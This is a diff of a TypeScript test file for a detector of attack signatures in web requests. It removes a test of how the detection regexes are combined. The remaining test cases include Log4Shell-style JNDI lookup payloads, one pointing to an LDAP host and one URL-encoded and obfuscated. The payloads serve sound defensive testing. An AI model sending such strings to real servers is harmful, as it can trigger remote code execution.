@@ -47,20 +47,6 @@ describe('attack signatures', () => {
   const attack = async (row: RequestRow) =>
     (await answerRows(await openRequests([row]), sectionOf('attack-signatures'))).map(({ attack: found }) => found);
 
-  test('are looked for together first, so that a harmless request is searched once', () => {
-    const { sql } = sectionOf('attack-signatures');
-    const [together = '', ...apart] = [...sql.matchAll(/regexp_like\(\s*\w+,\s*((?:'(?:[^']|'')*'|\s|\|\|)+)\)/g)].map(
-      ([, text = '']) =>
-        text
-          .replaceAll(/'\s*\|\|\s*'/g, '')
-          .trim()
-          .slice(1, -1),
-    );
-    expect(apart).toHaveLength(5);
-    // The end of a path is inside the words.
-    expect(together).toBe(apart.join('|').replace(/\$$/, '\\b'));
-  });
-
   test.each([
     ['code execution', asked('/', null, '$'.concat('{jndi:ldap://203.0.113.9/a}'))],
     ['code execution', asked('/', 'x=%24%7B%24%7Blower%3Aj%7Dndi')],
